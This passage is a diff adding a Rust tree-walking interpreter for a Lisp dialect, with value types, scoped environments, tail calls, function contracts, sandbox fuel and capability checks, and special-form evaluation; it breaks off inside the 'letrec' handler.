@@ -0,0 +1,1895 @@
+//! Tree-walking interpreter that evaluates `LispExpr` directly, without generating Rust.
+//!
+//! Each scope is an `Environment` chained to the one it was created in, so lambdas
+//! close over their definitions. Calls in tail position reuse the current frame, so
+//! self-recursive loops run in constant Rust stack. With a sandbox attached, each
+//! call costs one unit of fuel and I/O is checked the way sandboxed programs check it.
+
+use crate::ast::LispExpr;
+use crate::compiler::{bench_name, test_name};
+use crate::contracts::{self, Contract};
+use crate::crates::CrateRequirement;
+use crate::declarations::{self, Declarations};
+use crate::deps::DefinitionKind;
+use crate::lambda_list::{self, LambdaList, Parameter};
+use crate::macro_expander::{MacroExpander, DEFINE_COMPILER_MACRO, DEFMODULE};
+use crate::pattern::{Destructure, Pattern};
+use crate::sandbox::{is_http_url, Capability, SandboxConfig, SandboxMonitor, SandboxViolation};
+use crate::structs::StructDef;
+use crate::suggest;
+use crate::traits::{ImplDef, TraitDef};
+use crate::types;
+use crate::symbol::Symbol;
+use std::cell::RefCell;
+use std::collections::HashMap;
+use std::fmt;
+use std::path::Path;
+use std::rc::Rc;
+use std::sync::OnceLock;
+use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};
+
+/// Forms whose arguments are not all evaluated before the form runs
+pub const SPECIAL_FORMS: &[&str] = &[
+    "quote", "quasiquote", "if", "cond", "when", "unless", "and", "or", "let", "let*",
+    "letrec", "let-values", "destructuring-bind", "define", "defun", "defstruct", "deftrait", "defimpl", "require-crate", "lambda", "fn", "set!", "begin", "progn", "assert", "assert-equal", "assert-true",
+    "spawn", "thread", "async",
+];
+
+/// Functions available in every environment unless shadowed by a binding
+pub const BUILTINS: &[&str] = &[
+    "+", "-", "*", "/", "mod", "abs", "min", "max", "sqrt",
+    "=", "<", ">", "<=", ">=", "not",
+    "list", "cons", "car", "first", "cdr", "rest", "nth", "length", "append", "reverse",
+    "empty?", "map", "filter", "reduce", "apply",
+    "string-append", "string-length", "substring", "string->number", "number->string",
+    "string->symbol", "symbol->string", "to-bool",
+    "hash-map", "get", "assoc", "dissoc", "keys", "values", "contains?",
+    "number?", "string?", "symbol?", "list?", "map?", "procedure?", "nil?",
+    "now", "elapsed", "random", "random-int",
+    "json-parse", "json-get", "json-stringify",
+    "print", "read-file", "write-file", "http-get", "http-post", "run-command", "getenv",
+];
+
+const DEFAULT_MAX_DEPTH: usize = 1000;
+
+#[derive(Debug, Clone)]
+pub enum Value {
+    Number(f64),
+    String(String),
+    Bool(bool),
+    Nil,
+    Symbol(Symbol),
+    List(Vec<Value>),
+    /// Entries in insertion order; any value can be a key
+    Map(Vec<(Value, Value)>),
+    /// Several results returned together by `values`, taken apart by `let-values`
+    Values(Vec<Value>),
+    /// An instance of a `defstruct` type, with its fields in declaration order
+    Struct { name: Symbol, fields: Vec<(Symbol, Value)> },
+    Lambda(Rc<Lambda>),
+    Builtin(Symbol),
+}
+
+/// A function created by `lambda`, `defun`, or `(define (name params...) body...)`
+pub struct Lambda {
+    pub name: Option<String>,
+    pub parameters: LambdaList,
+    pub body: Vec<LispExpr>,
+    pub env: Rc<Environment>,
+    /// Conditions from the body's leading `(declare (requires ...) (ensures ...))`
+    pub contract: Contract,
+    /// The body's `(declare (capabilities ...))`, which a sandboxed call is limited to
+    pub capabilities: Option<Vec<Capability>>,
+}
+
+impl fmt::Debug for Lambda {
+    fn fmt(&self, f: &mut fmt::Formatter) -> fmt::Result {
+        f.debug_struct("Lambda")
+            .field("name", &self.name)
+            .field("parameters", &self.parameters)
+            .finish_non_exhaustive()
+    }
+}
+
+impl Value {
+    /// Only `false` and `nil` are false
+    pub fn is_truthy(&self) -> bool {
+        !matches!(self, Value::Bool(false) | Value::Nil)
+    }
+
+    pub fn type_name(&self) -> &str {
+        match self {
+            Value::Number(_) => "number",
+            Value::String(_) => "string",
+            Value::Bool(_) => "bool",
+            Value::Nil => "nil",
+            Value::Symbol(_) => "symbol",
+            Value::List(_) => "list",
+            Value::Map(_) => "map",
+            Value::Values(_) => "values",
+            Value::Struct { name, .. } => name.as_str(),
+            Value::Lambda(_) | Value::Builtin(_) => "function",
+        }
+    }
+
+    /// The value of `'expr`: lists stay lists and symbols stay symbols
+    pub fn from_expr(expr: &LispExpr) -> Value {
+        let tagged = |tag: &str, inner: &LispExpr| Value::List(vec![Value::Symbol(tag.into()), Value::from_expr(inner)]);
+        match expr {
+            LispExpr::Number(n) => Value::Number(*n),
+            LispExpr::String(s) => Value::String(s.clone()),
+            LispExpr::Bool(b) => Value::Bool(*b),
+            LispExpr::Nil => Value::Nil,
+            LispExpr::Symbol(s) | LispExpr::Gensym(s) => Value::Symbol(s.clone()),
+            LispExpr::List(elements) => Value::List(elements.iter().map(Value::from_expr).collect()),
+            LispExpr::Macro { name, parameters, body, declarations } => Value::List(
+                [
+                    Value::Symbol("defmacro".into()),
+                    Value::Symbol(name.clone()),
+                    Value::List(parameters.iter().cloned().map(Value::Symbol).collect()),
+                ]
+                .into_iter()
+                .chain(declarations.iter().map(Value::from_expr))
+                .chain([Value::from_expr(body)])
+                .collect(),
+            ),
+            LispExpr::MacroCall { name, args } => Value::List(
+                std::iter::once(Value::Symbol(name.clone())).chain(args.iter().map(Value::from_expr)).collect(),
+            ),
+            LispExpr::Quote(inner) => tagged("quote", inner),
+            LispExpr::Quasiquote(inner) => tagged("quasiquote", inner),
+            LispExpr::Unquote(inner) => tagged("unquote", inner),
+            LispExpr::Splice(inner) => tagged("unquote-splicing", inner),
+        }
+    }
+
+    /// The code a value built as data stands for, the inverse of `from_expr`: lists
+    /// tagged `quote` and friends become those forms again, and symbols named like a
+    /// gensym become gensyms. Maps, structs, and functions are not code.
+    pub fn to_expr(&self) -> Result<LispExpr, String> {
+        Ok(match self {
+            Value::Number(n) => LispExpr::Number(*n),
+            Value::String(s) => LispExpr::String(s.clone()),
+            Value::Bool(b) => LispExpr::Bool(*b),
+            Value::Nil => LispExpr::Nil,
+            Value::Symbol(s) if s.as_str().contains("#g") => LispExpr::Gensym(s.clone()),
+            Value::Symbol(s) => LispExpr::Symbol(s.clone()),
+            Value::List(elements) => {
+                let mut elements = elements.iter().map(Value::to_expr).collect::<Result<Vec<_>, _>>()?;
+                let tag = match elements.as_slice() {
+                    [LispExpr::Symbol(tag), _] => tag.as_str(),
+                    _ => "",
+                };
+                let wrap: Option<fn(Rc<LispExpr>) -> LispExpr> = match tag {
+                    "quote" => Some(LispExpr::Quote),
+                    "quasiquote" => Some(LispExpr::Quasiquote),
+                    "unquote" => Some(LispExpr::Unquote),
+                    "unquote-splicing" => Some(LispExpr::Splice),
+                    _ => None,
+                };
+                match (wrap, elements.pop()) {
+                    (Some(wrap), Some(inner)) => wrap(Rc::new(inner)),
+                    (_, last) => {
+                        elements.extend(last);
+                        LispExpr::List(elements.into())
+                    }
+                }
+            }
+            other => return Err(format!("a {} is not code", other.type_name())),
+        })
+    }
+
+    /// JSON objects become maps with string keys, arrays lists, and null `nil`
+    pub fn from_json(json: serde_json::Value) -> Value {
+        match json {
+            serde_json::Value::Null => Value::Nil,
+            serde_json::Value::Bool(b) => Value::Bool(b),
+            serde_json::Value::Number(n) => Value::Number(n.as_f64().unwrap_or(f64::NAN)),
+            serde_json::Value::String(s) => Value::String(s),
+            serde_json::Value::Array(elements) => Value::List(elements.into_iter().map(Value::from_json).collect()),
+            serde_json::Value::Object(entries) => {
+                Value::Map(entries.into_iter().map(|(key, value)| (Value::String(key), Value::from_json(value))).collect())
+            }
+        }
+    }
+
+    /// The JSON for `from_json`'s values; map keys must be strings or symbols
+    pub fn to_json(&self) -> Result<serde_json::Value, String> {
+        Ok(match self {
+            Value::Nil => serde_json::Value::Null,
+            Value::Bool(b) => serde_json::Value::Bool(*b),
+            // Whole numbers are written without a fraction, as `1` rather than `1.0`
+            Value::Number(n) if n.fract() == 0.0 && n.abs() < 9_007_199_254_740_992.0 => (*n as i64).into(),
+            Value::Number(n) => serde_json::Number::from_f64(*n)
+                .map(serde_json::Value::Number)
+                .ok_or_else(|| format!("{} has no JSON representation", n))?,
+            Value::String(s) => serde_json::Value::String(s.clone()),
+            Value::Symbol(s) => serde_json::Value::String(s.to_string()),
+            Value::List(elements) => serde_json::Value::Array(elements.iter().map(Value::to_json).collect::<Result<_, _>>()?),
+            Value::Map(entries) => {
+                let mut object = serde_json::Map::new();
+                for (key, value) in entries {
+                    let key = match key {
+                        Value::String(s) => s.clone(),
+                        Value::Symbol(s) => s.to_string(),
+                        other => return Err(format!("JSON object keys must be strings, got {} '{}'", other.type_name(), other)),
+                    };
+                    object.insert(key, value.to_json()?);
+                }
+                serde_json::Value::Object(object)
+            }
+            Value::Struct { fields, .. } => serde_json::Value::Object(
+                fields.iter().map(|(field, value)| Ok((field.to_string(), value.to_json()?))).collect::<Result<_, String>>()?,
+            ),
+            Value::Values(_) | Value::Lambda(_) | Value::Builtin(_) => return Err(format!("{} has no JSON representation", self)),
+        })
+    }
+
+    /// Text for `print`: strings without quotes, everything else as displayed
+    pub fn to_print_string(&self) -> String {
+        match self {
+            Value::String(s) => s.clone(),
+            other => other.to_string(),
+        }
+    }
+}
+
+/// Functions are equal only to themselves; maps are equal regardless of entry order
+impl PartialEq for Value {
+    fn eq(&self, other: &Value) -> bool {
+        match (self, other) {
+            (Value::Number(a), Value::Number(b)) => a == b,
+            (Value::String(a), Value::String(b)) => a == b,
+            (Value::Symbol(a), Value::Symbol(b)) => a == b,
+            (Value::Bool(a), Value::Bool(b)) => a == b,
+            (Value::Nil, Value::Nil) => true,
+            (Value::List(a), Value::List(b)) | (Value::Values(a), Value::Values(b)) => a == b,
+            (Value::Map(a), Value::Map(b)) => {
+                a.len() == b.len() && a.iter().all(|(key, value)| map_get(b, key) == Some(value))
+            }
+            (Value::Struct { name: a, fields: a_fields }, Value::Struct { name: b, fields: b_fields }) => a == b && a_fields == b_fields,
+            (Value::Lambda(a), Value::Lambda(b)) => Rc::ptr_eq(a, b),
+            (Value::Builtin(a), Value::Builtin(b)) => a == b,
+            _ => false,
+        }
+    }
+}
+
+/// Prints the value as Lisp source, with maps as `{key value, ...}` and structs as `#s(point :x 1 :y 2)`
+impl fmt::Display for Value {
+    fn fmt(&self, f: &mut fmt::Formatter) -> fmt::Result {
+        match self {
+            Value::Number(n) => write!(f, "{}", n),
+            Value::String(s) => write!(f, "{}", LispExpr::String(s.clone())),
+            Value::Bool(b) => write!(f, "{}", b),
+            Value::Nil => write!(f, "nil"),
+            Value::Symbol(s) => write!(f, "{}", s),
+            Value::List(elements) | Value::Values(elements) => {
+                write!(f, "(")?;
+                if matches!(self, Value::Values(_)) {
+                    write!(f, "values")?;
+                }
+                for (i, element) in elements.iter().enumerate() {
+                    if i > 0 || matches!(self, Value::Values(_)) {
+                        write!(f, " ")?;
+                    }
+                    write!(f, "{}", element)?;
+                }
+                write!(f, ")")
+            }
+            Value::Map(entries) => {
+                write!(f, "{{")?;
+                for (i, (key, value)) in entries.iter().enumerate() {
+                    if i > 0 {
+                        write!(f, ", ")?;
+                    }
+                    write!(f, "{} {}", key, value)?;
+                }
+                write!(f, "}}")
+            }
+            Value::Struct { name, fields } => {
+                write!(f, "#s({}", name)?;
+                for (field, value) in fields {
+                    write!(f, " :{} {}", field, value)?;
+                }
+                write!(f, ")")
+            }
+            Value::Lambda(lambda) => write!(f, "#<lambda {}>", lambda.name.as_deref().unwrap_or("anonymous")),
+            Value::Builtin(name) => write!(f, "#<builtin {}>", name),
+        }
+    }
+}
+
+fn map_get<'a>(entries: &'a [(Value, Value)], key: &Value) -> Option<&'a Value> {
+    entries.iter().find(|(k, _)| k == key).map(|(_, value)| value)
+}
+
+/// Variable bindings for one scope, falling back to the enclosing scope
+#[derive(Debug, Default)]
+pub struct Environment {
+    bindings: RefCell<HashMap<String, Value>>,
+    parent: Option<Rc<Environment>>,
+}
+
+impl Environment {
+    pub fn new() -> Rc<Self> {
+        Rc::new(Environment::default())
+    }
+
+    /// A new scope inside `parent`
+    pub fn child(parent: &Rc<Environment>) -> Rc<Self> {
+        Rc::new(Environment { bindings: RefCell::default(), parent: Some(parent.clone()) })
+    }
+
+    pub fn parent(&self) -> Option<&Rc<Environment>> {
+        self.parent.as_ref()
+    }
+
+    /// The innermost binding of `name`
+    pub fn get(&self, name: &str) -> Option<Value> {
+        match self.bindings.borrow().get(name) {
+            Some(value) => Some(value.clone()),
+            None => self.parent.as_ref()?.get(name),
+        }
+    }
+
+    /// Bind `name` in this scope, replacing any binding it already has here
+    pub fn define(&self, name: &str, value: Value) {
+        self.bindings.borrow_mut().insert(name.to_string(), value);
+    }
+
+    /// Remove `name` from this scope, returning its value
+    pub fn remove(&self, name: &str) -> Option<Value> {
+        self.bindings.borrow_mut().remove(name)
+    }
+
+    /// Replace the innermost existing binding of `name`
+    pub fn set(&self, name: &str, value: Value) -> Result<(), String> {
+        if let Some(slot) = self.bindings.borrow_mut().get_mut(name) {
+            *slot = value;
+            return Ok(());
+        }
+        match &self.parent {
+            Some(parent) => parent.set(name, value),
+            None => Err(format!("Cannot set! undefined variable: {}", name)),
+        }
+    }
+
+    /// Names bound in this scope, sorted
+    pub fn names(&self) -> Vec<String> {
+        let mut names: Vec<String> = self.bindings.borrow().keys().cloned().collect();
+        names.sort();
+        names
+    }
+}
+
+/// Notified before each call or special form is evaluated, as the step debugger is
+pub trait EvalObserver {
+    /// `depth` is how many evaluations enclose `expr`; an error stops evaluation
+    fn before_eval(&mut self, expr: &LispExpr, env: &Rc<Environment>, depth: usize) -> Result<(), String>;
+}
+
+/// A function defined by `defstruct` or `defimpl`, bound as a builtin of the same name
+enum TypeFunction {
+    Constructor(Rc<StructDef>),
+    /// The struct's name and the index of the field
+    Accessor(Symbol, usize),
+    /// The method's implementation for each type name
+    Method(HashMap<String, Value>),
+}
+
+/// What is left to do for an expression: nothing, or evaluate a tail expression
+enum Step {
+    Done(Value),
+    Tail(LispExpr, Rc<Environment>),
+}
+
+pub struct Interpreter {
+    global: Rc<Environment>,
+    expander: MacroExpander,
+    monitor: Option<SandboxMonitor>,
+    observer: Option<Rc<RefCell<dyn EvalObserver>>>,
+    depth: usize,
+    max_depth: usize,
+    /// State of the generator behind `random` and `random-int`
+    rng: u64,
+    /// Whether function contracts are checked on each call
+    contracts: bool,
+    type_functions: HashMap<String, TypeFunction>,
+    traits: HashMap<Symbol, Rc<TraitDef>>,
+}
+
+impl Default for Interpreter {
+    fn default() -> Self {
+        Self::new()
+    }
+}
+
+impl Interpreter {
+    pub fn new() -> Self {
+        let global = Environment::new();
+        global.define("pi", Value::Number(std::f64::consts::PI));
+        global.define("e", Value::Number(std::f64::consts::E));
+        Interpreter {
+            global,
+            expander: MacroExpander::new(),
+            monitor: None,
+            observer: None,
+            depth: 0,
+            max_depth: DEFAULT_MAX_DEPTH,
+            rng: epoch_duration().as_nanos() as u64,
+            contracts: true,
+            type_functions: HashMap::new(),
+            traits: HashMap::new(),
+        }
+    }
+
+    /// Start `random` and `random-int` from `seed`, so every run draws the same numbers
+    pub fn with_seed(mut self, seed: u64) -> Self {
+        self.rng = seed;
+        self
+    }
+
+    /// Check `requires` before and `ensures` after each call of a function declaring them (the default)
+    pub fn with_contracts(mut self, enabled: bool) -> Self {
+        self.contracts = enabled;
+        self
+    }
+
+    /// Check I/O, threads, fuel, and the time limit against `config`
+    pub fn with_sandbox(mut self, config: SandboxConfig) -> Self {
+        self.monitor = Some(SandboxMonitor::new(config));
+        self
+    }
+
+    /// Nesting of non-tail evaluations allowed before evaluation fails
+    pub fn with_max_depth(mut self, max_depth: usize) -> Self {
+        self.max_depth = max_depth;
+        self
+    }
+
+    pub fn with_observer(mut self, observer: Rc<RefCell<dyn EvalObserver>>) -> Self {
+        self.observer = Some(observer);
+        self
+    }
+
+    pub fn global(&self) -> &Rc<Environment> {
+        &self.global
+    }
+
+    /// The expander holding the macros defined so far
+    pub fn expander(&self) -> &MacroExpander {
+        &self.expander
+    }
+
+    pub fn monitor(&self) -> Option<&SandboxMonitor> {
+        self.monitor.as_ref()
+    }
+
+    /// Remove the global function, variable, or macro `name`, returning whether there was one
+    pub fn undefine(&mut self, name: &str) -> bool {
+        let binding = self.global.remove(name).is_some();
+        self.expander.remove_macro(name) || binding
+    }
+
+    /// Evaluate each form in the global environment and return the last value.
+    /// `deftest` and `defbench` forms are skipped, as in compiled programs.
+    pub fn eval_program(&mut self, expressions: &[LispExpr]) -> Result<Value, String> {
+        let mut last = Value::Nil;
+        for expr in expressions.iter().filter(|expr| test_name(expr).is_none() && bench_name(expr).is_none()) {
+            last = self.eval(expr)?;
+        }
+        Ok(last)
+    }
+
+    /// Evaluate `expr` in the global environment
+    pub fn eval(&mut self, expr: &LispExpr) -> Result<Value, String> {
+        let global = self.global.clone();
+        self.eval_in(expr, &global)
+    }
+
+    /// Evaluate `expr` in `env`, expanding macro calls as they are reached
+    pub fn eval_in(&mut self, expr: &LispExpr, env: &Rc<Environment>) -> Result<Value, String> {
+        if self.depth >= self.max_depth {
+            return Err(format!("Maximum evaluation depth of {} exceeded", self.max_depth));
+        }
+        self.depth += 1;
+        let result = self.eval_steps(expr, env);
+        self.depth -= 1;
+        result
+    }
+
+    fn eval_steps(&mut self, expr: &LispExpr, env: &Rc<Environment>) -> Result<Value, String> {
+        let mut step = self.step(expr, env)?;
+        loop {
+            match step {
+                Step::Done(value) => return Ok(value),
+                Step::Tail(expr, env) => step = self.step(&expr, &env)?,
+            }
+        }
+    }
+
+    /// Call a function value with already evaluated arguments
+    pub fn apply(&mut self, function: &Value, args: Vec<Value>) -> Result<Value, String> {
+        match self.call(function, args)? {
+            Step::Done(value) => Ok(value),
+            Step::Tail(expr, env) => self.eval_in(&expr, &env),
+        }
+    }
+
+    fn step(&mut self, expr: &LispExpr, env: &Rc<Environment>) -> Result<Step, String> {
+        match expr {
+            LispExpr::Number(n) => Ok(Step::Done(Value::Number(*n))),
+            LispExpr::String(s) => Ok(Step::Done(Value::String(s.clone()))),
+            LispExpr::Bool(b) => Ok(Step::Done(Value::Bool(*b))),
+            LispExpr::Nil => Ok(Step::Done(Value::Nil)),
+            LispExpr::Symbol(name) | LispExpr::Gensym(name) => self.lookup(name, env).map(Step::Done),
+            LispExpr::Quote(inner) => Ok(Step::Done(Value::from_expr(inner))),
+            LispExpr::Quasiquote(inner) => self.quasiquote(inner, env).map(Step::Done),
+            LispExpr::Unquote(_) | LispExpr::Splice(_) => Err(format!("Unquote outside of quasiquote: {}", expr)),
+            LispExpr::Macro { name, parameters, body, .. } => {
+                // A global function of the same name would shadow the macro
+                self.global.remove(name);
+                self.expander.define_macro(name.to_string(), parameters.iter().map(Symbol::to_string).collect(), (**body).clone());
+                Ok(Step::Done(Value::Symbol(name.clone())))
+            }
+            LispExpr::MacroCall { .. } => Ok(Step::Tail(self.expand(expr)?, env.clone())),
+            LispExpr::List(elements) => self.step_list(expr, elements, env),
+        }
+    }
+
+    fn lookup(&self, name: &str, env: &Rc<Environment>) -> Result<Value, String> {
+        if let Some(value) = env.get(name) {
+            return Ok(value);
+        }
+        if lambda_list::is_keyword(name) {
+            return Ok(Value::Symbol(name.into()));
+        }
+        // Hygiene renames the variables a macro binds to `name#gN`; one not bound here is `name`
+        let base = base_name(name);
+        if base != name
+            && let Some(value) = env.get(base)
+        {
+            return Ok(value);
+        }
+        match BUILTINS.iter().find(|builtin| **builtin == base) {
+            Some(builtin) => Ok(Value::Builtin(Symbol::from(*builtin))),
+            None => {
+                let mut bound = Vec::new();
+                let mut scope = Some(env);
+                while let Some(current) = scope {
+                    bound.extend(current.names());
+                    scope = current.parent();
+                }
+                let known = bound.iter().map(String::as_str).chain(BUILTINS.iter().copied()).chain(SPECIAL_FORMS.iter().copied());
+                Err(suggest::with_suggestion(format!("Undefined symbol: {}", name), base, known))
+            }
+        }
+    }
+
+    /// Expand the macro calls in `expr` with the macros defined so far
+    pub fn expand(&mut self, expr: &LispExpr) -> Result<LispExpr, String> {
+        self.expander.expand_all(expr.clone()).map_err(|e| e.to_string())
+    }
+
+    /// Expand `expr` one step if it is a macro call; see `MacroExpander::expand_once`
+    pub fn expand_once(&mut self, expr: &LispExpr) -> Result<LispExpr, String> {
+        self.expander.expand_once(expr.clone()).map_err(|e| e.to_string())
+    }
+
+    fn step_list(&mut self, expr: &LispExpr, elements: &[LispExpr], env: &Rc<Environment>) -> Result<Step, String> {
+        let Some((head, args)) = elements.split_first() else {
+            return Ok(Step::Done(Value::List(Vec::new())));
+        };
+        if let Some(monitor) = &mut self.monitor {
+            monitor.consume_fuel(1).and_then(|_| monitor.check_time_limit()).map_err(violation)?;
+        }
+        if let Some(observer) = &self.observer {
+            observer.borrow_mut().before_eval(expr, env, self.depth)?;
+        }
+
+        let form = match head {
+            LispExpr::Symbol(name) | LispExpr::Gensym(name) if env.get(name).is_none() => Some(base_name(name)),
+            _ => None,
+        };
+        if let Some(name) = form {
+            // The expander registers modules and compiler macros; the interpreter never
+            // applies compiler macros
+            if self.expander.is_macro(name) || name == DEFMODULE || name == DEFINE_COMPILER_MACRO {
+                return Ok(Step::Tail(self.expand(expr)?, env.clone()));
+            }
+            if SPECIAL_FORMS.contains(&name) {
+                return self.special_form(name, expr, args, env);
+            }
+        }
+
+        let function = self.eval_in(head, env)?;
+        let mut values = Vec::with_capacity(args.len());
+        for arg in args {
+            values.push(self.eval_in(arg, env)?);
+        }
+        self.call(&function, values)
+    }
+
+    /// Bind a lambda's arguments and leave its last body form as the tail
+    fn call(&mut self, function: &Value, args: Vec<Value>) -> Result<Step, String> {
+        let lambda = match function {
+            Value::Lambda(lambda) => lambda.clone(),
+            Value::Builtin(name) if self.type_functions.contains_key(name.as_str()) => return self.call_type_function(name, args),
+            Value::Builtin(name) => return self.call_builtin(name, args).map(Step::Done),
+            other => return Err(format!("Cannot call {} '{}'", other.type_name(), other)),
+        };
+        let name = lambda.name.as_deref().unwrap_or("lambda");
+        let parameters = &lambda.parameters;
+        let args = parameters.match_arguments(name, args, |arg| match arg {
+            Value::Symbol(s) if lambda_list::is_keyword(s) => Some(s.as_str()),
+            _ => None,
+        })?;
+
+        // Defaults are evaluated in order, seeing the parameters bound before them
+        let env = Environment::child(&lambda.env);
+        for (parameter, value) in parameters.required.iter().zip(args.required) {
+            env.define(parameter, value);
+        }
+        for (parameter, value) in parameters.optional.iter().zip(args.optional) {
+            let value = self.argument_or_default(parameter, value, &env)?;
+            env.define(&parameter.name, value);
+        }
+        if let Some(rest) = &parameters.rest {
+            env.define(rest, Value::List(args.rest));
+        }
+        for (parameter, value) in parameters.keys.iter().zip(args.keys) {
+            let value = self.argument_or_default(parameter, value, &env)?;
+            env.define(&parameter.name, value);
+        }
+        let (Some(capabilities), Some(monitor)) = (&lambda.capabilities, &mut self.monitor) else {
+            return self.call_body(&lambda, name, &env);
+        };
+        // The declared capabilities apply until the body is finished, so it cannot be left as a tail
+        monitor.enter_scope(capabilities.clone());
+        let result = match self.call_body(&lambda, name, &env) {
+            Ok(Step::Tail(expr, env)) => self.eval_in(&expr, &env),
+            Ok(Step::Done(value)) => Ok(value),
+            Err(e) => Err(e),
+        };
+        if let Some(monitor) = &mut self.monitor {
+            monitor.exit_scope();
+        }
+        result.map(Step::Done)
+    }
+
+    fn call_body(&mut self, lambda: &Lambda, name: &str, env: &Rc<Environment>) -> Result<Step, String> {
+        if self.contracts && !lambda.contract.is_empty() {
+            return self.call_with_contract(lambda, name, env);
+        }
+        self.body(&lambda.body, env)
+    }
+
+    fn argument_or_default(&mut self, parameter: &Parameter, value: Option<Value>, env: &Rc<Environment>) -> Result<Value, String> {
+        match (value, &parameter.default) {
+            (Some(value), _) => Ok(value),
+            (None, Some(default)) => self.eval_in(default, env),
+            (None, None) => Ok(Value::Nil),
+        }
+    }
+
+    /// Run a body between its preconditions and postconditions; the body cannot be
+    /// left as a tail when there are postconditions to check on its value
+    fn call_with_contract(&mut self, lambda: &Lambda, name: &str, env: &Rc<Environment>) -> Result<Step, String> {
+        for condition in &lambda.contract.requires {
+            if !self.eval_in(condition, env)?.is_truthy() {
+                return Err(format!("Precondition of '{}' failed: {}", name, condition));
+            }
+        }
+        if lambda.contract.ensures.is_empty() {
+            return self.body(&lambda.body, env);
+        }
+        let result = match self.body(&lambda.body, env)? {
+            Step::Done(value) => value,
+            Step::Tail(expr, env) => self.eval_in(&expr, &env)?,
+        };
+        let scope = Environment::child(env);
+        scope.define(contracts::RESULT, result.clone());
+        for condition in &lambda.contract.ensures {
+            if !self.eval_in(condition, &scope)?.is_truthy() {
+                return Err(format!("Postcondition of '{}' failed: {} (result: {})", name, condition, result));
+            }
+        }
+        Ok(Step::Done(result))
+    }
+
+    /// Evaluate all but the last form of a body, leaving the last as the tail
+    fn body(&mut self, body: &[LispExpr], env: &Rc<Environment>) -> Result<Step, String> {
+        let Some((last, init)) = body.split_last() else {
+            return Ok(Step::Done(Value::Nil));
+        };
+        for expr in init {
+            self.eval_in(expr, env)?;
+        }
+        Ok(Step::Tail(last.clone(), env.clone()))
+    }
+
+    fn special_form(&mut self, name: &str, expr: &LispExpr, args: &[LispExpr], env: &Rc<Environment>) -> Result<Step, String> {
+        match name {
+            "quote" => {
+                let [quoted] = args else { return Err(format!("'quote' requires exactly 1 argument: {}", expr)) };
+                Ok(Step::Done(Value::from_expr(quoted)))
+            }
+            "quasiquote" => {
+                let [template] = args else { return Err(format!("'quasiquote' requires exactly 1 argument: {}", expr)) };
+                self.quasiquote(template, env).map(Step::Done)
+            }
+            "if" => {
+                let (condition, then_expr, else_expr) = match args {
+                    [condition, then_expr] => (condition, then_expr, None),
+                    [condition, then_expr, else_expr] => (condition, then_expr, Some(else_expr)),
+                    _ => return Err(format!("'if' requires a condition, a then-expr, and an optional else-expr: {}", expr)),
+                };
+                let branch = if self.eval_in(condition, env)?.is_truthy() { Some(then_expr) } else { else_expr };
+                Ok(match branch {
+                    Some(branch) => Step::Tail(branch.clone(), env.clone()),
+                    None => Step::Done(Value::Nil),
+                })
+            }
+            "cond" => {
+                for clause in args {
+                    let Some((test, body)) = clause.as_list().and_then(|clause| clause.split_first()) else {
+                        return Err(format!("Each 'cond' clause must be a list of a test and a body: {}", clause));
+                    };
+                    if test.as_symbol() == Some("else") || self.eval_in(test, env)?.is_truthy() {
+                        return self.body(body, env);
+                    }
+                }
+                Ok(Step::Done(Value::Nil))
+            }
+            "when" | "unless" => {
+                let Some((condition, body)) = args.split_first() else {
+                    return Err(format!("'{}' requires a condition: {}", name, expr));
+                };
+                if self.eval_in(condition, env)?.is_truthy() == (name == "when") {
+                    self.body(body, env)
+                } else {
+                    Ok(Step::Done(Value::Nil))
+                }
+            }
+            "and" | "or" => {
+                let Some((last, init)) = args.split_last() else {
+                    return Ok(Step::Done(Value::Bool(name == "and")));
+                };
+                for arg in init {
+                    let value = self.eval_in(arg, env)?;
+                    if value.is_truthy() != (name == "and") {
+                        return Ok(Step::Done(value));
+                    }
+                }
+                Ok(Step::Tail(last.clone(), env.clone()))
+            }
+            // Named let: a local function of the variables, called with their initial values
+            "let" if matches!(args.first(), Some(LispExpr::Symbol(_))) => {
+                let [LispExpr::Symbol(function), LispExpr::List(bindings), body @ ..] = args else {
+                    return Err(format!("Named 'let' requires a name, a list of bindings, and a body: {}", expr));
+                };
+                let bindings = let_bindings(bindings)?;
+                let mut values = Vec::with_capacity(bindings.len());
+                for (_, value) in &bindings {
+                    values.push(self.eval_in(value, env)?);
+                }
+                let parameters: Vec<LispExpr> = bindings.iter().map(|(variable, _)| LispExpr::Symbol(variable.clone())).collect();
+                let scope = Environment::child(env);
+                let lambda = Value::Lambda(Rc::new(make_lambda(Some(function), &parameters, body, &scope)?));
+                scope.define(function, lambda.clone());
+                self.call(&lambda, values)
+            }
+            "let" | "let*" => {
+                let Some((LispExpr::List(bindings), body)) = args.split_first() else {
+                    return Err(format!("First argument to '{}' must be a list of bindings: {}", name, expr));
+                };
+                // Each binding sees the ones before it, like the compiled `let`
+                let scope = Environment::child(env);
+                for (pattern, value) in pattern_bindings(bindings)? {
+                    let value = self.eval_in(value, &scope)?;
+                    destructure(name, &pattern, value, &scope)?;
+                }
+                self.body(body, &scope)
+            }
+            // Every value form is evaluated before any of the bindings exist
+            "let-values" => {
+                let Some((LispExpr::List(bindings), body)) = args.split_first() else {
+                    return Err(format!("First argument to 'let-values' must be a list of bindings: {}", expr));
+                };
+                let scope = Environment::child(env);
+                for binding in bindings.iter() {
+                    let Some([LispExpr::List(formals), value]) = binding.as_list() else {
+                        return Err(format!("Each 'let-values' binding must be a list of [(variables...), value]: {}", binding));
+                    };
+                    let values = match self.eval_in(value, env)? {
+                        Value::Values(values) => values,
+                        value => vec![value],
+                    };
+                    if values.len() != formals.len() {
+                        return Err(format!("'let-values' binding {} expects {} value(s), got {}", binding, formals.len(), values.len()));
+                    }
+                    for (formal, value) in formals.iter().zip(values) {
+                        let (LispExpr::Symbol(variable) | LispExpr::Gensym(variable)) = formal else {
+                            return Err(format!("'let-values' variables must be symbols, got {}", formal));
+                        };
+                        scope.define(variable, value);
+                    }
+                }
+                self.body(body, &scope)
+            }
+            "destructuring-bind" => {
+                let [pattern, value, body @ ..] = args else {
+                    return Err(format!("'destructuring-bind' requires a pattern, a value, and a body: {}", expr));
+                };
+                let pattern = Pattern::parse(pattern).map_err(|e| e.to_string())?;
+                let value = self.eval_in(value, env)?;
+                let scope = Environment::child(env);
+                destructure(name, &pattern, value, &scope)?;
+                self.body(body, &scope)
+            }
+            // Every value sees every binding, so lambdas can call each other
+            "letrec" => {
+                let Some((LispExpr::List(bindings), body)) = args.split_first() else {
+                    return Err(format!("First argument to 'letrec' must be a list of bindings: {}", expr));
+                };
+                let bindings = let_bindings(bindings)?;
+                let scope = Environment::child(env);
+                for (variable, _) in &bindings {
